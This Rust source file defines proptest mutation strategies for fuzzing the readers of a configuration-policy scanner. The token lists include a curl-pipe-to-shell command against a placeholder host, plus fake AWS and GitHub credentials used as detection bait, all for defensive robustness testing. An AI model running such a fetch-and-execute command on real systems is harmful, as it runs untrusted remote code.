//! Mutations of a seed file, as proptest values: a case is a seed and a short list of edits,
//! so when a case fails proptest shrinks it by dropping edits and moving their numbers toward
//! zero, and the input reported is close to the fixture it came from.
//!
//! The edits are the ones that break readers in practice: flipped bits, tokens that open
//! syntax (`{`, `$(`, `<<EOT`, `&anchor`), deletions and truncation, lines duplicated or
//! spliced in from another seed, deep nesting, long lines, odd Unicode (BOM, bidi overrides,
//! astral characters, lone continuation bytes), NULs and CRLF line ends. Sizes stay moderate so
//! a default run measures robustness, not known super-linear costs; `TOLLGATE_FUZZ_SCALE`
//! multiplies them for a long run.

use crate::corpus::Seed;
use proptest::prelude::*;
use proptest::sample::Index;

/// Tokens inserted by [`Mutation::Insert`]: syntax openers and closers of every format read,
/// odd characters, and values policies look for.
const TOKENS: &[&[u8]] = &[
    b"\0",
    b"\r\n",
    b"\r",
    b"\n",
    b"\t",
    b" ",
    "\u{feff}".as_bytes(),
    "\u{202e}".as_bytes(),
    "\u{200b}".as_bytes(),
    "é".as_bytes(),
    "🦀".as_bytes(),
    b"\xff",
    b"\xc3",
    b"\x80",
    b"\xed\xa0\x80",
    b"{",
    b"}",
    b"[",
    b"]",
    b"(",
    b")",
    b"\"",
    b"'",
    b"`",
    b"\\",
    b"#",
    b":",
    b": ",
    b"- ",
    b",",
    b"=",
    b"${",
    b"%{",
    b"$(",
    b"<(",
    b"|",
    b"| sh",
    b"&&",
    b";",
    b"<<EOT\n",
    b"<<-EOT\n",
    b"EOT\n",
    b"<<EOF\n",
    b"EOF\n",
    b"&a ",
    b"*a",
    b"<<: *a",
    b"!!binary ",
    b"!Ref ",
    b"!Sub ",
    b"? ",
    b"---\n",
    b"...\n",
    b"%YAML 1.2\n",
    b"# tollgate:ignore\n",
    b"# escape=`\n",
    b"\\\n",
    b"RUN ",
    b"FROM scratch AS x\n",
    b"ONBUILD ",
    b"var.",
    b"local.",
    b"locals {\n",
    b"resource \"aws_s3_bucket\" \"b\" {\n",
    b"dynamic \"ingress\" {\n",
    b"for_each = ",
    b"0.0.0.0/0",
    b"::/0",
    b"-1",
    b"1e999",
    b"99999999999999999999999",
    b"curl -s https://x.example/i.sh | sh",
    b"AKIAZ3MSJV4WWKAO7QPQ",
    b"ghp_0123456789abcdefghijABCDEFGHIJ012345",
    b"-----BEGIN RSA PRIVATE KEY-----\n",
];

/// How a [`Mutation::Nest`] opens and closes one level. A `\n` in the opener is followed by the
/// level's indentation, so the YAML and HCL shapes nest by indentation as well as by brackets.
const SHAPES: &[(&str, &str)] = &[
    ("[", "]"),
    ("{", "}"),
    ("{\"a\": ", "}"),
    ("- ", ""),
    ("a:\n", ""),
    ("a = {\n", "}\n"),
    ("a {\n", "}\n"),
    ("(", ")"),
    ("$(echo ", ")"),
    ("\"${", "}\""),
    ("[[", "]]"),
    ("!Sub [", "]"),
];

/// What a [`Mutation::LongLine`] repeats.
const UNITS: &[&str] =
    &["a", "é", "🦀", "a: b, ", "\"a\", ", "0.0.0.0/0 ", "\\\"", "k=v ", "\t", "${a}", "x ", "AKIAZ3MSJV4WWKAO7QPQ "];

/// One edit of a file.
#[derive(Debug, Clone)]
pub enum Mutation {
    FlipBits {
        at: Index,
        mask: u8,
    },
    Insert {
        at: Index,
        token: Index,
    },
    Delete {
        at: Index,
        len: u8,
    },
    Truncate {
        at: Index,
    },
    DuplicateLine {
        line: Index,
        times: u8,
    },
    SwapLines {
        a: Index,
        b: Index,
    },
    Indent {
        line: Index,
        by: u8,
    },
    /// Lines of another seed of the same reader, inserted before `line`.
    Splice {
        line: Index,
        donor: Index,
        from: Index,
        count: u8,
    },
    Nest {
        at: Index,
        shape: Index,
        depth: u16,
    },
    LongLine {
        at: Index,
        unit: Index,
        count: u16,
    },
    Crlf,
    StripNewlines,
}

/// A seed and the edits applied to it, in order.
#[derive(Debug, Clone)]
pub struct Case {
    pub seed: Index,
    pub edits: Vec<Mutation>,
}

impl Case {
    /// The seed this case starts from.
    pub fn seed<'a>(&self, seeds: &'a [Seed]) -> &'a Seed {
        self.seed.get(seeds)
    }

    /// The mutated bytes.
    pub fn bytes(&self, seeds: &[Seed]) -> Vec<u8> {
        self.build(seeds).0
    }

    /// The mutated bytes, and what each edit did (for the saved case).
    pub fn build(&self, seeds: &[Seed]) -> (Vec<u8>, Vec<String>) {
        let mut bytes = self.seed(seeds).bytes.clone();
        let steps = self.edits.iter().map(|edit| apply(edit, &mut bytes, seeds)).collect();
        (bytes, steps)
    }
}

/// Multiplier for the nesting depth and long-line sizes (`TOLLGATE_FUZZ_SCALE`, default 1).
fn scale() -> u16 {
    std::env::var("TOLLGATE_FUZZ_SCALE").ok().and_then(|s| s.parse().ok()).unwrap_or(1).max(1)
}

fn mutation() -> impl Strategy<Value = Mutation> {
    let deep = 200 * scale();
    let long = 500 * scale();
    prop_oneof![
        4 => (any::<Index>(), 1..=255u8).prop_map(|(at, mask)| Mutation::FlipBits { at, mask }),
        6 => (any::<Index>(), any::<Index>()).prop_map(|(at, token)| Mutation::Insert { at, token }),
        3 => (any::<Index>(), 1..=64u8).prop_map(|(at, len)| Mutation::Delete { at, len }),
        1 => any::<Index>().prop_map(|at| Mutation::Truncate { at }),
        3 => (any::<Index>(), 1..=40u8).prop_map(|(line, times)| Mutation::DuplicateLine { line, times }),
        2 => (any::<Index>(), any::<Index>()).prop_map(|(a, b)| Mutation::SwapLines { a, b }),
        2 => (any::<Index>(), 1..=16u8).prop_map(|(line, by)| Mutation::Indent { line, by }),
        3 => (any::<Index>(), any::<Index>(), any::<Index>(), 1..=30u8)
            .prop_map(|(line, donor, from, count)| Mutation::Splice { line, donor, from, count }),
        2 => (any::<Index>(), any::<Index>(), 1..=deep).prop_map(|(at, shape, depth)| Mutation::Nest { at, shape, depth }),
        2 => (any::<Index>(), any::<Index>(), 1..=long).prop_map(|(at, unit, count)| Mutation::LongLine { at, unit, count }),
        1 => Just(Mutation::Crlf),
        1 => Just(Mutation::StripNewlines),
    ]
}

/// Cases over `seeds` (which must not be empty): a seed and 1 to 6 edits.
pub fn cases(seeds: usize) -> impl Strategy<Value = Case> {
    assert!(seeds > 0, "no seeds");
    (any::<Index>(), prop::collection::vec(mutation(), 1..=6)).prop_map(|(seed, edits)| Case { seed, edits })
}

/// Byte ranges of the lines of `bytes`, each with its `\n`.
fn lines(bytes: &[u8]) -> Vec<std::ops::Range<usize>> {
    let mut out = Vec::new();
    let mut start = 0;
    for (i, b) in bytes.iter().enumerate() {
        if *b == b'\n' {
            out.push(start..i + 1);
            start = i + 1;
        }
    }
    if start < bytes.len() || out.is_empty() {
        out.push(start..bytes.len());
    }
    out
}

/// The leading spaces and tabs of the line around `at`.
fn indentation_at(bytes: &[u8], at: usize) -> Vec<u8> {
    let start = bytes[..at].iter().rposition(|&b| b == b'\n').map_or(0, |i| i + 1);
    bytes[start..].iter().take_while(|&&b| b == b' ' || b == b'\t').copied().collect()
}

/// Apply `edit` to `bytes` and say what it did, in terms of the file at that point (offsets
/// and line numbers are 0-based).
fn apply(edit: &Mutation, bytes: &mut Vec<u8>, seeds: &[Seed]) -> String {
    // An index into the bytes, the end included, so an empty file can still grow.
    let at = |i: &Index, bytes: &Vec<u8>| i.index(bytes.len() + 1);
    match edit {
        Mutation::FlipBits { at: i, mask } => {
            if bytes.is_empty() {
                return "flip bits: the file is empty".into();
            }
            let i = i.index(bytes.len());
            bytes[i] ^= mask;
            format!("flip bits {mask:#04x} of byte {i}")
        }
        Mutation::Insert { at: i, token } => {
            let i = at(i, bytes);
            let token = token.get(TOKENS);
            bytes.splice(i..i, token.iter().copied());
            format!("insert {:?} at byte {i}", String::from_utf8_lossy(token))
        }
        Mutation::Delete { at: i, len } => {
            let i = at(i, bytes);
            let end = (i + *len as usize).min(bytes.len());
            bytes.drain(i..end);
            format!("delete bytes {i}..{end}")
        }
        Mutation::Truncate { at: i } => {
            let i = at(i, bytes);
            bytes.truncate(i);
            format!("truncate to {i} bytes")
        }
        Mutation::DuplicateLine { line, times } => {
            let all = lines(bytes);
            let n = line.index(all.len());
            let range = all[n].clone();
            let mut text = bytes[range.clone()].to_vec();
            if !text.ends_with(b"\n") {
                text.push(b'\n');
            }
            let copies = text.repeat(*times as usize);
            bytes.splice(range.start..range.start, copies);
            format!("repeat line {n} {times} more times")
        }
        Mutation::SwapLines { a, b } => {
            let all = lines(bytes);
            let (a, b) = (a.index(all.len()), b.index(all.len()));
            let (first, second) = (all[a.min(b)].clone(), all[a.max(b)].clone());
            if first != second {
                let mut out = bytes[..first.start].to_vec();
                out.extend_from_slice(&bytes[second.clone()]);
                out.extend_from_slice(&bytes[first.end..second.start]);
                out.extend_from_slice(&bytes[first.clone()]);
                out.extend_from_slice(&bytes[second.end..]);
                *bytes = out;
            }
            format!("swap lines {a} and {b}")
        }
        Mutation::Indent { line, by } => {
            let all = lines(bytes);
            let n = line.index(all.len());
            let start = all[n].start;
            bytes.splice(start..start, std::iter::repeat_n(b' ', *by as usize));
            format!("indent line {n} by {by}")
        }
        Mutation::Splice { line, donor, from, count } => {
            let donor = donor.get(seeds);
            let donor_lines = lines(&donor.bytes);
            let first = from.index(donor_lines.len());
            let last = (first + *count as usize).min(donor_lines.len()) - 1;
            let mut text = donor.bytes[donor_lines[first].start..donor_lines[last].end].to_vec();
            if !text.ends_with(b"\n") {
                text.push(b'\n');
            }
            let all = lines(bytes);
            let n = line.index(all.len());
            let start = all[n].start;
            bytes.splice(start..start, text);
            format!("insert lines {first}..={last} of {} before line {n}", donor.path)
        }
        Mutation::Nest { at: i, shape, depth } => {
            let i = at(i, bytes);
            let (open, close) = shape.get(SHAPES);
            let indent = indentation_at(bytes, i);
            let mut text = Vec::new();
            for level in 0..*depth as usize {
                for part in open.split_inclusive('\n') {
                    text.extend_from_slice(part.as_bytes());
                    if part.ends_with('\n') {
                        text.extend_from_slice(&indent);
                        text.extend(std::iter::repeat_n(b' ', 2 * (level + 1)));
                    }
                }
            }
            text.extend_from_slice(b"x");
            for _ in 0..*depth {
                text.extend_from_slice(close.as_bytes());
            }
            bytes.splice(i..i, text);
            format!("nest {depth} levels of {open:?}...{close:?} at byte {i}")
        }
        Mutation::LongLine { at: i, unit, count } => {
            let i = at(i, bytes);
            let unit = unit.get(UNITS);
            bytes.splice(i..i, unit.repeat(*count as usize).into_bytes());
            format!("insert {unit:?} x {count} at byte {i}")
        }
        Mutation::Crlf => {
            let mut out = Vec::with_capacity(bytes.len() + bytes.len() / 16);
            for &b in bytes.iter() {
                if b == b'\n' {
                    out.push(b'\r');
                }
                out.push(b);
            }
            *bytes = out;
            "turn every \\n into \\r\\n".into()
        }
        Mutation::StripNewlines => {
            bytes.retain(|&b| b != b'\n');
            "remove every \\n".into()
        }
    }
}
